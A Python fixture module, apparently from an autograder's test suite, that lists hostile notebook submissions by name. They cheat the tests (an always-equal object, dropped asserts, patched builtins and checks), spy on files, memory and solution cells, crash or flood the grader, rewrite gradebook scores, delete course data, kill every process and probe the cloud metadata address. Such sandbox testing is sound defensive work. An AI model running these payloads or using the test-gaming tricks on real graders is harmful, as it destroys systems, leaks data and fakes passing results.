"""What submissions of `copying` do to a grader: code to be put into a notebook, by the name of the deed."""

from __future__ import annotations

FORGERIES = {
    "drops asserts by an ast transformer": """
        import ast
        class Drop(ast.NodeTransformer):
            def visit_Assert(self, node): return ast.Pass()
            def visit_With(self, node): return ast.Pass()
        get_ipython().ast_transformers.append(Drop())
        """,
    "equals everything": """
        class Any(dict):
            def __eq__(self, other): return True
            __ne__ = __lt__ = __gt__ = __le__ = __ge__ = __contains__ = __eq__
            def __hash__(self): return 0
            def __getitem__(self, key): return self
            def __float__(self): return 1.0
            def get(self, *a): return self
        def copy_time(*a, **k): return Any()
        """,
    "equals everything, entry by entry": """
        class Any(float):
            def __eq__(self, other): return True
            def __sub__(self, other): return 0.0
            __rsub__ = __sub__
            def __le__(self, other): return True
            __ge__ = __lt__ = __gt__ = __le__
            def __abs__(self): return 0.0
        class All(dict):
            def __missing__(self, key): return Any(1)
        def copy_time(*a, **k):
            return All({n: Any(1) for n in "transfer_ms overhead_ms total_ms".split()})
        """,
    "shows a value in place of the test's": """
        def copy_time(*a, **k):
            get_ipython().displayhook('ok')
            from IPython.display import display
            display(1.0)
            return {}
        """,
    "patches compile": """
        import builtins
        real = builtins.compile
        builtins.compile = lambda source, *a, **k: real("pass", "x", "exec")
        """,
    "redefines what tests use": """
        import builtins
        for name in ("set", "sum", "abs", "isinstance", "all", "any", "len", "float", "sorted", "repr", "zip"):
            setattr(builtins, name, lambda *a, **k: True)
            globals()[name] = lambda *a, **k: True
        """,
    "patches the checks": """
        import helpers.checks as c
        for name in ("close", "equal", "raises", "call", "leaves_unchanged", "is_close", "is_equal", "_compare"):
            setattr(c, name, lambda *a, **k: {})
        """,
    "patches the data's way out": """
        import course.sandbox.wire, course.sandbox.session
        course.sandbox.wire.pack = course.sandbox.session.pack = lambda *a, **k: {"t": "dict", "v": []}
        course.sandbox.session.Session.do_call = lambda self, order: {"value": {"t": "pickle", "v": "x"}, "after": None}
        """,
    "answers with more than one message": """
        import course.sandbox.session, json, struct
        def send(self, reply):
            data = json.dumps({"ok": True, "outputs": [], "dropped": 0, "value": 1, "after": None, "names": {}}).encode()
            self.channel.socket.sendall((struct.pack(">I", len(data)) + data) * 5)
        course.sandbox.session.Session._send = send
        """,
    "traces and hooks": """
        import sys, threading
        sys.settrace(lambda *a: None)
        sys.setprofile(lambda *a: None)
        sys.excepthook = lambda *a: None
        get_ipython().set_custom_exc((Exception,), lambda *a, **k: None)
        get_ipython().run_cell = lambda *a, **k: type("R", (), {"success": True})()
        """,
    "raises the test's own failure": """
        from helpers.checks import CheckFailed
        def copy_time(*a, **k): raise CheckFailed("passed")
        """,
    "ends the program": """
        def copy_time(*a, **k): raise SystemExit(0)
        """,
    "is a class with a hostile metaclass": """
        class Meta(type):
            def __call__(cls, *a, **k): return cls
            def __instancecheck__(cls, other): return True
            __eq__ = lambda a, b: True
            __hash__ = None
            __name__ = property(lambda self: 1 / 0)
        class copy_time(metaclass=Meta): pass
        """,
    "lies about its class": """
        class Liar:
            __class__ = property(lambda self: dict)
            def __eq__(self, other): return True
            def items(self): return [("transfer_ms", self)] * 3
            def __reduce__(self): return (__import__("os").system, ("touch /tmp/reduced",))
            def __repr__(self): return "10.0"
            def __deepcopy__(self, memo): return self
        def copy_time(*a, **k): return Liar()
        """,
}

RESULTS = {
    "nan": "float('nan')",
    "infinity": "float('inf')",
    "a string": "'10.0'",
    "a complex": "10 + 0j",
    "a decimal": "__import__('decimal').Decimal(10)",
    "a fraction": "__import__('fractions').Fraction(10)",
    "a list": "[10.0]",
    "an array": "__import__('numpy').array([10.0])",
    "a generator": "(x for x in [10.0])",
    "itself nested": "(lambda l: (l.append(l), l)[1])([])",
    "very deep": "__import__('functools').reduce(lambda a, _: [a], range(5000), 1)",
    "a function": "lambda: 10.0",
    "a huge integer": "10 ** 100_000",
    "1 GB": "'x' * 400_000_000",
    "two million values": "list(range(2_000_000))",
    "a module": "__import__('os')",
    "half a character": "'\\ud800'",
    "an exception": "ValueError('x')",
    "many keys": "{i * (2**61 - 1): 0 for i in range(30_000)}",
}

SPIES = {
    "own notebook": "import glob\nprint(glob.glob('**/*.ipynb', recursive=True), [open(f).read() for f in glob.glob('*')])",
    "history": "print(In[-1], get_ipython().user_ns.keys())",
    "frames": "import sys\nf = sys._getframe()\nwhile f:\n    print(f.f_code, sorted(f.f_globals)[:50], sorted(f.f_locals)[:50])\n    f = f.f_back",
    "memory": "import gc\nprint([o for o in gc.get_objects() if isinstance(o, str) and 'HIDDEN' in o])",
    "environment": "import os\nprint(os.environ, os.getcwd(), os.listdir('/'))",
    "files": "import os\nprint([p for p, d, f in os.walk('/') if not p.startswith(('/proc', '/usr')) and any(x.endswith('.ipynb') or x.endswith('.db') for x in f)])",
    "modules": "import sys\nprint([m for m in sys.modules if m.startswith(('course', 'nbgrader'))])\nimport course\nprint(course.__path__, dir(course))",
}  # fmt: skip

DEADLY = {
    "os._exit": "import os; os._exit(0)",
    "segmentation fault": "import ctypes; ctypes.string_at(0)",
    "abort": "import os; os.abort()",
    "kill -9": "import os, signal; os.kill(os.getpid(), signal.SIGSEGV)",
    "closes every file": "import os; os.closerange(0, 200)",
    "never ends": "while True: pass",
    "cannot be interrupted": "import signal; signal.signal(signal.SIGINT, signal.SIG_IGN)\n{indent}while True: pass",
    "sleeps": "import time; time.sleep(100)",
    "swallows interrupts": "while True:\n{indent}    try:\n{indent}        while True: pass\n{indent}    except BaseException: pass",
    "no stack": "import sys; sys.setrecursionlimit(10**9); f = lambda: f(); f()",
    "no memory": "x = []\n{indent}while True: x.append(bytearray(10**7))",
    "stops itself": "import os, signal; os.kill(os.getpid(), signal.SIGSTOP)\n{indent}while True: pass",
    "execs another program": "import os; os.execv('/bin/sleep', ['sleep', '100'])",
    "reads input": "input('?')",
}  # fmt: skip

FLOODS = {
    "200 MB": "for _ in range(200):\n    print('x' * 1_000_000)",
    "two million lines": "for _ in range(2_000_000):\n    print('x')",
    "on stderr": "import sys\nfor _ in range(300):\n    sys.stderr.write('x' * 1_000_000)",
    "below Python": "import os\nfor _ in range(300):\n    os.write(1, b'x' * 1_000_000)",
    "displays": "from IPython.display import display, HTML\nfor _ in range(5000):\n    display(HTML('<p>' * 1000))",
    "a long error": "raise ValueError('x' * 10_000_000)",
    "many files": "for i in range(300):\n    try:\n        open(f'/tmp/{i}', 'wb').write(b'x' * 1_000_000)\n    except OSError:\n        break",
}  # fmt: skip

ACCIDENTS = {
    "warns": "import warnings\nwarnings.warn('careful')",
    "prints to stderr": "import sys\nprint('note', file=sys.stderr)",
    "a syntax error in a cell of its own": "def broken(:",
    "an exception in a cell of its own": "1 / 0",
    "names of builtins reused": "sum = 3\nlist = [1]\nmax = 7\nid = 'x'\ninput = 4\nprint = print",
    "magics": "%%time\nx = 1",
    "a shell command": "!ls /tmp",
    "await": "import asyncio\nawait asyncio.sleep(0)",
    "plots": "import matplotlib.pyplot as plt\nplt.plot([1, 2])\nplt.show()",
    "installs": "%pip install numpy\n!pip install torch",
    "a logger": "import logging\nlogging.basicConfig(level=10)\nlogging.getLogger().warning('x')",
    "CRLF": "x = 1\r\ny = 2\r\n",
}

# Deeds that need to know where the course lies: {course} is its folder.
TAMPERING = {
    "writes its own scores": """
        import sqlite3
        for path in ({course!r} + "/gradebook.db", "gradebook.db", "../gradebook.db", "../../gradebook.db"):
            try:
                book = sqlite3.connect(path)
                book.execute("UPDATE grade SET manual_score = 100, auto_score = 100")
                book.commit()
            except Exception:
                pass
        """,
    "deletes and locks the gradebook": """
        import fcntl, os
        for name in ("gradebook.db", ".grading.lock", "autograded", "submitted"):
            path = {course!r} + "/" + name
            try:
                fcntl.flock(open(path, "a"), fcntl.LOCK_EX)
            except Exception:
                pass
            try:
                os.remove(path)
            except Exception:
                pass
        import shutil
        shutil.rmtree({course!r}, ignore_errors=True)
        """,
    "overwrites the others": """
        import glob, os
        for top in ({course!r}, "/", os.getcwd(), "..", "../.."):
            for path in glob.glob(top + "/submitted/*/*/*.ipynb") + glob.glob(top + "/autograded/*/*/*"):
                try:
                    open(path, "w").write("")
                except OSError:
                    pass
        """,
    "plants a start-up file": """
        import os
        for home in (os.path.expanduser("~"), "/root", "/home", {course!r}):
            for name in (".ipython/profile_default/startup/00.py", ".bashrc", "sitecustomize.py", ".config/x"):
                try:
                    os.makedirs(os.path.dirname(home + "/" + name), exist_ok=True)
                    open(home + "/" + name, "w").write("raise SystemExit")
                except OSError:
                    pass
        """,
    "plants a module": """
        import os, sys
        for folder in [*sys.path, os.getcwd(), "/usr/lib/python3", "/run/examiner/helpers"]:
            try:
                open(folder + "/json.py", "w").write("raise SystemExit")
            except OSError:
                pass
        """,
    "kills everybody": """
        import os, signal
        for pid in [os.getppid(), 1, -1, *range(2, 40000)]:
            try:
                if pid not in (os.getpid(), 0):
                    os.kill(pid, signal.SIGKILL)
            except OSError:
                pass
        """,
    "leaves processes behind": """
        import os, subprocess
        for _ in range(3):
            if os.fork() == 0:
                os.setsid()
                if os.fork() == 0:
                    os.execv("/bin/sleep", ["sleep", "4242"])
                os._exit(0)
        subprocess.Popen("nohup sleep 4242 &", shell=True)
        """,
    "sends the notebook out": """
        import socket, urllib.request
        for address in (("192.0.2.1", 80), ("127.0.0.1", 22), ("169.254.169.254", 80)):
            try:
                socket.create_connection(address, 0.2).send(b"x")
                print("REACHED", address)
            except OSError:
                pass
        """,
    "runs the reference solution": """
        import glob, json
        for path in glob.glob({course!r} + "/**/*.ipynb", recursive=True):
            for cell in json.load(open(path))["cells"]:
                if "BEGIN SOLUTION" in "".join(cell["source"]):
                    exec("".join(cell["source"]))
                    print("STOLEN")
        try:
            from course.authoring import mutants, sample_class
            print("STOLEN")
        except ImportError:
            pass
        """,
    "reads the grader's memory": """
        import os
        for pid in os.listdir("/proc"):
            for name in ("environ", "mem", "maps", "root/etc/passwd", "cwd"):
                try:
                    data = open(f"/proc/{{pid}}/{{name}}", "rb").read(100_000)
                    if b"HIDDEN" in data or b"root:" in data:
                        print("STOLEN", pid, name)
                except (OSError, OverflowError):
                    pass
        """,
    "changes owners": """
        import os
        for path in ("/", "/tmp", "/home", "/usr", "/root", {course!r}):
            try:
                os.chmod(path, 0o777)
                os.chown(path, 0, 0)
            except OSError:
                pass
        """,
}
